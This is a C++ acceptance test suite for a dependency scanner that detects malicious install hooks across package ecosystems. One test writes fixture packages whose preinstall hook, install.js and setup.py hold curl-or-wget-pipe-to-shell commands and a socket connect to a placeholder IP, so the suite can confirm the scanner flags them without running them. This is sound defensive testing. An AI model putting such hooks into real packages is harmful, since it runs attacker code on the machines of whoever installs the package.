// Acceptance suite: one PASS/FAIL line per criterion, nonzero exit on any failure.

#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <iostream>
#include <random>
#include <set>
#include <sstream>
#include <tuple>

#include "depsentry/evasion.hpp"
#include "depsentry/fixtures.hpp"
#include "depsentry/pipeline.hpp"
#include "depsentry/report.hpp"
#include "depsentry/scanner.hpp"
#include "depsentry/trigger.hpp"
#include "interpose.hpp"
#include "support/oracles.hpp"
#include "support/random_facts.hpp"
#include "support/samples.hpp"
#include "support/scan.hpp"
#include "support/snapshots.hpp"
#include "support/tempdir.hpp"

namespace {

using namespace depsentry;
using Clock = std::chrono::steady_clock;

struct Outcome {
  bool ok = true;
  std::string detail;

  void require(bool cond, const std::string& what) {
    if (cond || !ok) {
      ok = ok && cond;
      return;
    }
    ok = false;
    detail = what;
  }
};

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

std::string fmt_seconds(double s) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.3fs", s);
  return buf;
}

// Rows in ecosystem order, columns I1 I2 I3 R1 R2 R3 R4.
constexpr const char* kMatrix[] = {"X..XXX.", ".X.XXX.", "X...XX.", "..XXXX.", ".X..XX.", "...XXX.", "....XXX"};

Outcome applicability_matrix() {
  Outcome o;
  const auto start = Clock::now();
  int cells = 0;
  for (std::size_t e = 0; e < kAllEcosystems.size(); ++e)
    for (std::size_t t = 0; t < kAceTechniques.size(); ++t, ++cells)
      o.require(applicability(kAllEcosystems[e], kAceTechniques[t]) == (kMatrix[e][t] == 'X'),
                std::string(to_string(kAllEcosystems[e])) + "/" + std::string(to_string(kAceTechniques[t])));
  const double took = seconds_since(start);
  o.require(cells == 49, "cell count " + std::to_string(cells));
  o.require(took < 1.0, "took " + fmt_seconds(took));
  if (o.ok) o.detail = "49 cells, " + fmt_seconds(took);
  return o;
}

using Located = std::set<std::tuple<TechniqueId, std::string, std::uint32_t>>;

Located located(const std::vector<Finding>& findings, const std::set<TechniqueId>& ids) {
  Located out;
  for (const auto& f : findings)
    if (ids.contains(f.id)) out.emplace(f.id, f.location.path, f.location.line_start);
  return out;
}

Outcome reference_samples() {
  using testing::scan_files;
  Outcome o;
  const auto start = Clock::now();
  const std::string s(testing::kHookPackageJson);
  const std::set<TechniqueId> ace(kAceTechniques.begin(), kAceTechniques.end());
  struct Case {
    std::string name;
    std::map<std::string, std::string> files;
    std::set<TechniqueId> ids;
    Located want;
  };
  const std::string setup_stub = "from setuptools import setup\nsetup(name='a')\n";
  const std::vector<Case> cases = {
      {"hook package.json", {{"package.json", std::string(testing::kHookPackageJson)}}, ace,
       {{TechniqueId::I1, "package.json", 6}}},
      {"top-level setup.py", {{"setup.py", std::string(testing::kTopLevelSetupPy)}}, ace,
       {{TechniqueId::I2, "setup.py", 4}}},
      {"cmdclass setup.py", {{"setup.py", std::string(testing::kCmdclassSetupPy)}}, ace,
       {{TechniqueId::I2, "setup.py", 10}}},
      {"build.rs",
       {{"Cargo.toml", std::string(testing::kPlainCargoToml)}, {"build.rs", std::string(testing::kShellBuildRs)}},
       ace,
       {{TechniqueId::I2, "build.rs", 5}}},
      {"gemspec + extconf.rb",
       {{"example.gemspec", std::string(testing::kExtensionGemspec)}, {"extconf.rb", std::string(testing::kExecExtconf)}},
       ace,
       {{TechniqueId::I3, "example.gemspec", 5}}},
      {"renamed identifiers", {{"setup.py", std::string(testing::kRenamedSetupPy)}}, {TechniqueId::EvStId},
       {{TechniqueId::EvStId, "setup.py", 2}}},
      {"print patch", {{"setup.py", setup_stub}, {"pkg/patch.py", std::string(testing::kPrintPatch)}},
       {TechniqueId::EvDyMod},
       {{TechniqueId::EvDyMod, "pkg/patch.py", 7}}},
  };
  for (const auto& c : cases) o.require(located(scan_files(c.files), c.ids) == c.want, c.name);
  const double took = seconds_since(start);
  o.require(took < 5.0, "took " + fmt_seconds(took));
  if (o.ok) o.detail = std::to_string(cases.size()) + " samples, " + fmt_seconds(took);
  return o;
}

std::vector<std::string> hooks(const Prediction& p) {
  std::vector<std::string> out;
  for (const auto& e : p.executions) out.push_back(e.hook_or_file);
  return out;
}

Outcome trigger_truth_table() {
  using testing::make_snapshot;
  Outcome o;
  using V = std::vector<std::string>;

  const auto npm = make_snapshot({{"package.json", std::string(testing::kHookPackageJson)}});
  InstallContext ctx;
  o.require(hooks(predict_executions(npm.facts, Ecosystem::Npm, ctx)) == V{"pre-install"}, "npm hook runs");
  ctx.ignore_scripts = true;
  o.require(predict_executions(npm.facts, Ecosystem::Npm, ctx).executions.empty(), "npm ignore_scripts");

  const auto sdist = make_snapshot({{"setup.py", std::string(testing::kCmdclassSetupPy)}});
  o.require(!predict_executions(sdist.facts, Ecosystem::PyPI, {}).executions.empty(), "pip sdist runs setup.py");
  ctx = {};
  ctx.only_binary_all = true;
  const auto binary_only = predict_executions(sdist.facts, Ecosystem::PyPI, ctx);
  o.require(binary_only.executions.empty() && binary_only.install_fails, "pip only_binary_all");

  const auto composer = make_snapshot({{"composer.json", R"({"name":"a/b","scripts":{
      "post-install-cmd":"echo i","post-update-cmd":"echo u"}})"}});
  ctx = {};
  ctx.lockfile_present = true;
  o.require(hooks(predict_executions(composer.facts, Ecosystem::Composer, ctx)) == V{"post-install-cmd"},
            "composer with lockfile");

  const auto gem = make_snapshot({{"example.gemspec", std::string(testing::kExtensionGemspec)},
                                  {"extconf.rb", std::string(testing::kExecExtconf)}});
  o.require(hooks(predict_executions(gem.facts, Ecosystem::RubyGems, {})) == V{"extconf.rb"}, "gem extension");

  const auto go = make_snapshot({{"go.mod", "module example.com/x\n"}, {"x.go", "package x\nfunc init() {}\n"}});
  o.require(predict_executions(go.facts, Ecosystem::Go, {}).executions.empty(), "go runs nothing");

  std::mt19937 rng(20240601);
  int checked = 0;
  for (int i = 0; i < 1000 && o.ok; ++i, ++checked) {
    const auto facts = testing::random_facts(rng);
    const auto c = testing::random_context(rng);
    for (auto eco : kAllEcosystems) {
      const std::string v = testing::suppression_violation(facts, eco, c);
      o.require(v.empty(), "random case " + std::to_string(i) + ": " + v);
    }
  }
  if (o.ok) o.detail = "7 examples, " + std::to_string(checked) + " randomized cases";
  return o;
}

struct Corpus {
  testing::TempDir dir;
  nlohmann::json manifest = generate_fixtures(dir.path());
};

Outcome fixture_corpus(const Corpus& corpus) {
  Outcome o;
  const auto start = Clock::now();
  const auto& entries = corpus.manifest["fixtures"];
  o.require(entries.size() == 33, "corpus size " + std::to_string(entries.size()));
  std::size_t controls = 0;
  for (const auto& e : entries) {
    const std::string rel = e["path"];
    const Report r = scan_target((corpus.dir.path() / rel).string(), Config::defaults(), {});
    std::multiset<std::tuple<std::string, std::string, std::uint32_t>> got, want;
    for (const auto& f : r.findings) got.emplace(std::string(to_string(f.id)), f.location.path, f.location.line_start);
    for (const auto& x : e["expected"]) want.emplace(x["id"], x["path"], x["line"]);
    if (e["kind"] == "control") {
      ++controls;
      o.require(r.findings.empty(), rel + " control has findings");
    }
    o.require(got == want, rel + " findings differ");
  }
  const double took = seconds_since(start);
  o.require(controls == 7, "control count " + std::to_string(controls));
  o.require(took < 10.0, "took " + fmt_seconds(took));
  if (o.ok) o.detail = std::to_string(entries.size()) + " packages, " + fmt_seconds(took);
  return o;
}

Outcome string_classification() {
  Outcome o;
  std::mt19937_64 rng(7);
  const Thresholds t{};
  int cases = 0;
  for (; cases < 10000 && o.ok; ++cases) {
    std::string bytes(rng() % 256, '\0');
    for (auto& c : bytes) c = static_cast<char>(rng() & 0xff);
    const double want = testing::oracle_entropy(bytes);
    const double got = shannon_entropy(bytes);
    o.require(std::abs(got - want) <= 1e-9, "entropy of case " + std::to_string(cases));

    std::string text(12 + rng() % 189, ' ');
    for (auto& c : text) c = static_cast<char>(0x20 + rng() % 95);
    const std::string literal = testing::oracle_base64(text);
    const auto cls = classify_literal(literal, t);
    o.require(cls.encoded && cls.decoded_preview == text, "base64 round trip of case " + std::to_string(cases));
    if (cases % 20 == 0) {
      // End-to-end through the scanner for a twentieth of the cases.
      std::string quoted = "var s = '" + literal + "';\n";
      const auto f = testing::only(
          testing::scan_files({{"package.json", R"({"name":"a"})"}, {"index.js", "module.exports = 1;\n"},
                               {"lib/s.js", quoted}}),
          TechniqueId::EvDoEnc);
      bool matched = false;
      for (const auto& x : f)
        for (const auto& [k, v] : x.properties) matched |= k == "decoded_preview" && v == text;
      o.require(matched, "scanner ENC finding for case " + std::to_string(cases));
    }
  }
  if (o.ok) o.detail = std::to_string(cases) + " seeded strings";
  return o;
}

std::string corpus_json(const std::vector<std::shared_ptr<const PackageSnapshot>>& snaps, unsigned jobs) {
  static const Scanner scanner(Config::defaults());
  std::vector<const PackageSnapshot*> ptrs;
  for (const auto& s : snaps) ptrs.push_back(s.get());
  const auto results = scan_all(ptrs, scanner, jobs);
  nlohmann::json out = nlohmann::json::array();
  for (const auto& r : results) {
    Report rep;
    rep.target = r->coords;
    rep.findings = r->findings;
    rep.notes = r->notes;
    rep.stats = {r->files, r->bytes, 0};
    rep.timestamp = current_timestamp();
    rep.finalize();
    auto j = to_json(rep);
    j["timestamp"] = "";
    j["stats"]["duration_ms"] = 0;
    out.push_back(std::move(j));
  }
  return out.dump();
}

Outcome determinism(const Corpus& corpus) {
  Outcome o;
  std::vector<std::shared_ptr<const PackageSnapshot>> snaps;
  for (const auto& e : corpus.manifest["fixtures"])
    snaps.push_back(load_target((corpus.dir.path() / e["path"].get<std::string>()).string(), Config::defaults(), false));
  const std::string baseline = corpus_json(snaps, 1);
  int reps = 0;
  for (; reps < 20 && o.ok; ++reps) {
    o.require(corpus_json(snaps, 1) == baseline, "serial run " + std::to_string(reps) + " differs");
    o.require(corpus_json(snaps, 8) == baseline, "parallel run " + std::to_string(reps) + " differs");
  }
  if (o.ok) o.detail = std::to_string(reps) + " repetitions, serial vs 8 jobs";
  return o;
}

Outcome no_side_effects() {
  Outcome o;
  // The counter must see a real call before its silence means anything.
  acceptance::arm();
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  const long probe = acceptance::disarm();
  if (fd >= 0) ::close(fd);
  o.require(probe == 1, "interposer did not observe a probe socket() call");

  testing::TempDir dir;
  dir.write("pkg/package.json", R"({"name":"live","version":"1.0.0","scripts":{
    "preinstall":"curl -s http://203.0.113.7/i.sh | sh","postinstall":"node install.js"}})");
  dir.write("pkg/install.js", "require('child_process').exec('wget -qO- http://203.0.113.7/x | bash');\n");
  dir.write("pkg/index.js", "const net = require('net');\nnet.connect(4444, '203.0.113.7');\n");
  dir.write("py/setup.py", "import os\nos.system('curl http://203.0.113.7 | sh')\nfrom setuptools import setup\n"
                           "setup(name='live')\n");
  dir.write("rs/Cargo.toml", std::string(testing::kPlainCargoToml));
  dir.write("rs/build.rs", "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"id\").output(); }\n");

  acceptance::arm();
  std::size_t findings = 0;
  for (const char* pkg : {"pkg", "py", "rs"}) {
    const std::string path = (dir.path() / pkg).string();
    ScanOptions opts;
    opts.tree = true;
    opts.jobs = 4;
    findings += scan_target(path, Config::defaults(), opts).findings.size();
    (void)simulate_target(path, Config::defaults(), InstallContext{});
  }
  const long calls = acceptance::disarm();
  o.require(findings > 0, "live-looking packages produced no findings");
  o.require(calls == 0, std::to_string(calls) + " process or socket call(s) during scans");
  if (o.ok) o.detail = "0 process/socket calls over 3 scans and simulations";
  return o;
}

}  // namespace

int main() {
  struct Criterion {
    const char* name;
    std::function<Outcome()> run;
  };
  std::unique_ptr<Corpus> corpus;
  try {
    corpus = std::make_unique<Corpus>();
  } catch (const std::exception& e) {
    std::cerr << "corpus generation failed: " << e.what() << "\n";
    return 1;
  }
  const std::vector<Criterion> criteria = {
      {"applicability-matrix", applicability_matrix},
      {"reference-samples", reference_samples},
      {"trigger-truth-table", trigger_truth_table},
      {"fixture-corpus", [&] { return fixture_corpus(*corpus); }},
      {"string-classification", string_classification},
      {"deterministic-output", [&] { return determinism(*corpus); }},
      {"no-execution-no-network", no_side_effects},
  };
  int failed = 0;
  for (const auto& c : criteria) {
    Outcome o;
    try {
      o = c.run();
    } catch (const std::exception& e) {
      o.ok = false;
      o.detail = std::string("exception: ") + e.what();
    }
    failed += !o.ok;
    std::cout << (o.ok ? "PASS " : "FAIL ") << c.name << "  (" << o.detail << ")\n";
  }
  std::cout << criteria.size() - failed << "/" << criteria.size() << " criteria passed\n";
  return failed == 0 ? 0 : 1;
}
